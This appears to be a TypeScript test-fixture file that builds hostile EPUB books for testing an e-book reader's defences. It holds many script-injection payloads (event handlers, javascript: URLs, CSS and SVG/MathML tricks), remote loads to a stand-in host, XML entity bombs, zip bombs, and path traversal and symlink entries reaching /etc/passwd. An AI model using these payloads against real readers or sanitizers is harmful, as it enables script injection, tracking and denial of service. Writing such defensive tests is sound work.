import type { BookPlan } from "./epub-builder.ts";
import { png } from "./sample-books.ts";

/** The host of all external resources that the attacks refer to. A request to it is a failure. */
export const OUTSIDE = "https://outside.example";

/** The property that a script of an attack sets in its window and in the windows above it. */
export const RAN = "bookScriptRan";

const RUN = `window.${RAN}=top.${RAN}=parent.${RAN}=true`;
const SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';

const attack = (title: string, body: string, head = ""): BookPlan => ({
  title,
  chapters: [{ id: "chapter", title, body: `<p>Readable text.</p>${body}`, head }],
});

/** The markup of a page that the manifest declares as something else. It would load a page of this origin in the book's frame. */
const DISGUISED = `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title><meta http-equiv="refresh" content="0;url=/?join=r#ABCD"/><link rel="preconnect" href="${OUTSIDE}"/></head><body onload="${RUN}"><script>${RUN}</script><p>Readable text.</p></body></html>`;

const disguised = (title: string, path: string, manifest: string): BookPlan => ({
  title,
  chapters: [{ id: "chapter", title, body: "" }],
  entries: [
    { path, data: DISGUISED },
    {
      path: "OEBPS/package.opf",
      data: `<package xmlns="http://www.idpf.org/2007/opf" version="3.0"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>${title}</dc:title></metadata><manifest>${manifest}</manifest><spine><itemref idref="chapter"/></spine></package>`,
    },
  ],
});

/** Books whose content attacks. Each is readable, and shows 'Readable text.' */
export const contentAttacks: Readonly<Record<string, BookPlan>> = {
  script: attack(
    "Script",
    `<script>${RUN}</script><script src="evil.js"></script><h:script xmlns:h="http://www.w3.org/1999/xhtml">${RUN}</h:script>`,
    `<script src="${OUTSIDE}/x.js"></script><script type="module">import "${OUTSIDE}/m.js"</script>`,
  ),
  handlers: attack(
    "Event handlers",
    `<img src="nothing.png" onerror="${RUN}" alt=""/><svg ${SVG} onload="${RUN}"><set attributeName="onclick" to="${RUN}"/></svg><details open="" ontoggle="${RUN}"><summary>x</summary></details><p onfocus="${RUN}" autofocus="" tabindex="0">x</p>`,
  ),
  urls: attack(
    "Script URLs",
    `<a href="javascript:${RUN}" class="bait">one</a><a href="java&#10;script:${RUN}" class="bait">two</a><a href="data:text/html,&lt;script&gt;${RUN}&lt;/script&gt;" class="bait">three</a><svg ${SVG}><a xlink:href="javascript:${RUN}"><text y="10" class="bait">four</text><animate attributeName="href" to="javascript:${RUN}" begin="0s"/></a></svg><math xmlns="http://www.w3.org/1998/Math/MathML"><mtext href="javascript:${RUN}">x</mtext></math>`,
  ),
  remote: attack(
    "Remote files",
    `<img src="${OUTSIDE}/a.png" alt=""/><img src="//outside.example/b.png" alt=""/><img srcset="${OUTSIDE}/c.png 2x" alt=""/><picture><source srcset="${OUTSIDE}/d.png"/><img alt="" src="${OUTSIDE}/d2.png"/></picture><video src="${OUTSIDE}/e.mp4" poster="${OUTSIDE}/e.png" autoplay=""></video><audio src="${OUTSIDE}/f.mp3" autoplay=""></audio><svg ${SVG}><image xlink:href="${OUTSIDE}/g.png" width="9" height="9"/><image href="${OUTSIDE}/h.png" width="9" height="9"/><use href="${OUTSIDE}/i.svg#i"/><filter id="f"><feImage href="${OUTSIDE}/j.png"/></filter><rect fill="url(${OUTSIDE}/k.svg#k)" filter="url(#f)" width="9" height="9"/></svg><table background="${OUTSIDE}/l.png"><tr><td>x</td></tr></table>`,
    `<link rel="stylesheet" href="${OUTSIDE}/a.css"/><link rel="preload" as="image" href="${OUTSIDE}/p.png"/><link rel="dns-prefetch" href="${OUTSIDE}"/><link rel="icon" href="${OUTSIDE}/i.png"/>`,
  ),
  frames: attack(
    "Frames and forms",
    `<iframe src="${OUTSIDE}/frame"></iframe><iframe srcdoc="&lt;script&gt;${RUN}&lt;/script&gt;"></iframe><object data="${OUTSIDE}/o.swf"><p>Inside an object.</p></object><embed src="${OUTSIDE}/e.swf"/><form action="${OUTSIDE}/post"><input name="a" autofocus=""/><button formaction="${OUTSIDE}/f" class="bait">Send</button></form><portal src="${OUTSIDE}/portal"></portal><svg ${SVG}><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${OUTSIDE}/g"></iframe></foreignObject></svg>`,
    `<base href="${OUTSIDE}/"/><meta http-equiv="refresh" content="0;url=${OUTSIDE}/refresh"/>`,
  ),
  styles: attack(
    "Style sheets",
    `<p style="background: url(${OUTSIDE}/s.png)">x</p><p style="background: \\75rl('${OUTSIDE}/t.png')">x</p><p style="background: image-set('${OUTSIDE}/u.png' 1x)">x</p><p style="--x: '${OUTSIDE}/v.png'; background: image-set(var(--x) 1x)">x</p>`,
    `<style>@import "${OUTSIDE}/a.css"; @im\\70ort url(${OUTSIDE}/b.css); @import url("evil.css"); body { background: u/**/rl(${OUTSIDE}/c.png), URL(  "${OUTSIDE}/d.png"  ); list-style: url(${OUTSIDE}/e.png); behavior: url(#default); -moz-binding: url(${OUTSIDE}/f.xml); width: expression(${RUN}); cursor: url(//outside.example/g.cur), auto; } @font-face { font-family: F; src: url(${OUTSIDE}/f.woff2), local(x); } p { font-family: F; content: url(${OUTSIDE}/h.png) }</style><?xml-stylesheet href="${OUTSIDE}/pi.css"?>`,
  ),
  nesting: attack(
    "Hidden in other markup",
    `<template><script>${RUN}</script></template><noscript><img src="${OUTSIDE}/n.png" alt=""/></noscript><svg ${SVG}><style>@import url(${OUTSIDE}/svg.css);</style><script>${RUN}</script><script xlink:href="${OUTSIDE}/s.js"/><foreignObject><script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script></foreignObject></svg><math xmlns="http://www.w3.org/1998/Math/MathML"><annotation-xml encoding="text/html"><script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script></annotation-xml></math><x:unknown xmlns:x="urn:x"><script>${RUN}</script></x:unknown><![CDATA[<script>${RUN}</script>]]>`,
  ),
  // What is left out must not join what was around it, and brackets must be read as browsers read them.
  joinedStyles: attack(
    "Joined styles",
    `<p style="width: 1px/@charset 'x';* '*/; background: url(${OUTSIDE}/j1.png)'">x</p>`,
    `<style>/@charset "x";* "*/ body { background: url(${OUTSIDE}/j2.png) }"</style><style>@@charset "x";import "${OUTSIDE}/j3.css";</style><style>p { background: image-set(image-set(x{b:}"${OUTSIDE}/j4.png" 1x) }</style><style>p { background: 1+url(${OUTSIDE}/j5.png) }</style>`,
  ),
  links: attack(
    "Links in formulas and objects",
    `<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:${RUN}" class="bait"><mi xlink:href="${OUTSIDE}/m" xmlns:xlink="http://www.w3.org/1999/xlink">x</mi><maction actiontype="statusline"><mtext>y</mtext></maction><annotation-xml encoding="text/html"><iframe src="${OUTSIDE}/f"></iframe></annotation-xml></math><a href="chapter.xhtml" ping="${OUTSIDE}/ping" target="_top" class="bait">z</a><object data="${OUTSIDE}/a.png" type="image/png"></object><object data="javascript:${RUN}//a.png"></object><svg ${SVG}><use href="${OUTSIDE}/u.svg#a"/><use href="data:image/svg+xml,&lt;svg/&gt;#a"/><animate xlink:href="#bait" attributeName="href" values="javascript:${RUN}"/><a id="bait" class="bait"><text>w</text></a><foreignObject><iframe srcdoc="&lt;script&gt;${RUN}&lt;/script&gt;"></iframe></foreignObject></svg>`,
  ),
  svgFile: {
    title: "A script in an SVG page",
    chapters: [
      {
        id: "chapter",
        title: "Drawing",
        mediaType: "image/svg+xml",
        body: `<?xml-stylesheet href="${OUTSIDE}/pi.css"?><svg ${SVG} viewBox="0 0 100 100" onload="${RUN}"><script>${RUN}</script><style>@import url(${OUTSIDE}/x.css); text { fill: red }</style><image href="${OUTSIDE}/x.png" width="9" height="9"/><text y="20">Readable text.</text></svg>`,
      },
    ],
  },
  brokenMarkup: {
    title: "Broken markup",
    chapters: [{ id: "chapter", title: "Broken", body: "" }],
    entries: [
      {
        path: "OEBPS/chapter.xhtml",
        data: `<html><body><p>Readable text.&nbsp;<br>a < b & c <b>bold<i>both</b></i><p onclick=${RUN}>two<script>if (a<b && "</p>") ${RUN}</script><img src=${OUTSIDE}/x.png onerror=${RUN}><svg><p><style><!--</style><img title="--><img src=x onerror=${RUN}>"><td>cell`,
      },
    ],
  },
  noMediaType: disguised(
    "A page without a type",
    "OEBPS/chapter.txt",
    '<item id="chapter" href="chapter.txt"/>',
  ),
  listedTwice: disguised(
    "A page that is listed twice",
    "OEBPS/chapter.xhtml",
    '<item id="other" href="chapter.xhtml" media-type="application/smil+xml"/><item id="chapter" href="chapter.xhtml" media-type="application/xhtml+xml"/>',
  ),
  entities: {
    title: "Entities",
    chapters: [{ id: "chapter", title: "Entities", body: "" }],
    entries: [
      {
        path: "OEBPS/chapter.xhtml",
        data: `<?xml version="1.0"?><!DOCTYPE html [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY x SYSTEM "${OUTSIDE}/entity"><!ENTITY s "<script>${RUN}</script>">]><html xmlns="http://www.w3.org/1999/xhtml"><head><title>E</title></head><body><p>Readable text.&nbsp;&c;&x;&s;</p></body></html>`,
      },
    ],
  },
};

const chapters = [{ id: "chapter", title: "Chapter", body: "<p>Readable text.</p>" }];

const encryption = (algorithm: string, path: string) =>
  `<encryption xmlns="urn:oasis:names:tc:opendocument:xmlns:container" xmlns:enc="http://www.w3.org/2001/04/xmlenc#"><enc:EncryptedData><enc:EncryptionMethod Algorithm="${algorithm}"/><enc:CipherData><enc:CipherReference URI="${path}"/></enc:CipherData></enc:EncryptedData></encryption>`;

const AES = "http://www.w3.org/2001/04/xmlenc#aes128-cbc";

/** Files that are refused with a message, and the code of the error. */
export const refusedBooks: Readonly<Record<string, { readonly code: string; readonly plan: BookPlan }>> = {
  adobe: {
    code: "protected",
    plan: {
      title: "Adobe",
      chapters,
      entries: [
        { path: "META-INF/encryption.xml", data: encryption(AES, "OEBPS/chapter.xhtml") },
        { path: "META-INF/rights.xml", data: '<adept:rights xmlns:adept="http://ns.adobe.com/adept"/>' },
      ],
    },
  },
  apple: {
    code: "protected",
    plan: {
      title: "Apple",
      chapters,
      entries: [
        {
          path: "META-INF/encryption.xml",
          data: encryption("http://itunes.apple.com/dataenc", "OEBPS/chapter.xhtml"),
        },
        { path: "META-INF/sinf.xml", data: "<sinf/>" },
      ],
    },
  },
  lcp: {
    code: "protected",
    plan: {
      title: "LCP",
      chapters,
      entries: [
        {
          path: "META-INF/encryption.xml",
          data: encryption("http://www.w3.org/2001/04/xmlenc#aes256-cbc", "OEBPS/chapter.xhtml"),
        },
        { path: "META-INF/license.lcpl", data: "{}" },
      ],
    },
  },
  password: {
    code: "protected",
    plan: {
      title: "Password",
      chapters,
      entries: [{ path: "META-INF/container.xml", data: "????????", flags: 1 }],
    },
  },
  noContainer: {
    code: "not_a_book",
    plan: { title: "No package", chapters, missing: ["META-INF/container.xml", "OEBPS/package.opf"] },
  },
  onlyPdf: {
    code: "types_unknown",
    plan: {
      title: "Pages of another kind",
      chapters,
      items: [{ id: "pages", href: "pages.pdf", mediaType: "application/pdf", data: "%PDF" }],
      entries: [
        {
          path: "OEBPS/package.opf",
          data: '<package><metadata/><manifest><item id="p" href="pages.pdf" media-type="application/pdf"/></manifest><spine><itemref idref="p"/></spine></package>',
        },
      ],
    },
  },
  bomb: {
    code: "file_too_large",
    plan: {
      title: "Bomb",
      chapters,
      entries: [{ path: "OEBPS/package.opf", data: new Uint8Array(80_000_000), method: "deflated" }],
    },
  },
  wideLie: {
    code: "file_too_large",
    plan: {
      title: "A size that is no size",
      chapters,
      entries: [{ path: "OEBPS/large.bin", data: "x", claimedWideSize: 2n ** 63n }],
    },
  },
  // Unpacks to more than its stated size.
  lyingBomb: {
    code: "file_broken",
    plan: {
      title: "Bomb in disguise",
      chapters,
      entries: [
        {
          path: "OEBPS/package.opf",
          data: new Uint8Array(80_000_000),
          method: "deflated",
          claimedSize: 5_000,
        },
      ],
    },
  },
  brokenPackage: {
    code: "file_broken",
    plan: {
      title: "Broken package",
      chapters,
      entries: [{ path: "OEBPS/package.opf", data: "<package><manifest><item id='a' <<>&&</spine" }],
    },
  },
  notXml: {
    code: "file_broken",
    plan: {
      title: "No XML",
      chapters,
      entries: [{ path: "OEBPS/package.opf", data: "\u0000\u0001 This is no XML." }],
    },
  },
  wrongChecksum: {
    code: "file_broken",
    plan: {
      title: "Checksum",
      chapters,
      entries: [{ path: "OEBPS/package.opf", data: "<package/>", claimedCrc: 1 }],
    },
  },
};

/** A book with entries and references that point outside the container: readable apart from those. */
export const traversal: BookPlan = {
  title: "Traversal",
  chapters: [
    {
      id: "chapter",
      title: "Chapter",
      body: '<p>Readable text.</p><img src="../../../etc/passwd" alt=""/><img src="/OEBPS/images/a.png" alt=""/><img src="..\\..\\secret.png" alt=""/>',
    },
  ],
  entries: [
    { path: "../../evil.txt", data: "evil" },
    { path: "/absolute.txt", data: "evil" },
    { path: "OEBPS\\images\\b.png", data: "evil" },
  ],
};

/** A book with a symbolic link and two files of one name: readable, and both are only data. */
export const oddEntries: BookPlan = {
  title: "Odd entries",
  chapters: [{ id: "chapter", title: "Chapter", body: '<p>Readable text.</p><img src="link.png" alt=""/>' }],
  entries: [
    { path: "OEBPS/link.png", data: "/etc/passwd", isLink: true },
    { path: "OEBPS/twice.txt", data: "first" },
    { path: "OEBPS/twice.txt", data: "second" },
  ],
};

/** A book with files that no reader unpacks, and a table of contents that is cut off: readable apart from those. */
export const bombInside: BookPlan = {
  title: "Bomb inside",
  chapters: [
    {
      id: "chapter",
      title: "Chapter",
      body: '<p>Readable text.</p><img src="images/bomb.png" alt=""/><img src="images/liar.png" alt=""/>',
    },
    { id: "large", title: "Large", body: "" },
  ],
  entries: [
    { path: "OEBPS/images/bomb.png", data: new Uint8Array(20_000_000), method: "deflated" },
    { path: "OEBPS/images/liar.png", data: new Uint8Array(20_000_000), method: "deflated", claimedSize: 70 },
    { path: "OEBPS/large.xhtml", data: new Uint8Array(20_000_000), method: "deflated" },
    { path: "OEBPS/nav.xhtml", data: '<html><body><nav epub:type="toc"><ol><li><a href="chapter.xhtml">Cha' },
  ],
};

/** A book that lacks files: readable apart from those. */
export const missing: BookPlan = {
  title: "Missing",
  chapters: [...chapters, { id: "gone", title: "Gone", body: "" }],
  items: [{ id: "picture", href: "images/gone.png", mediaType: "image/png", data: png(1, 1, [0, 0, 0]) }],
  missing: ["mimetype", "OEBPS/gone.xhtml", "OEBPS/images/gone.png", "OEBPS/nav.xhtml"],
};
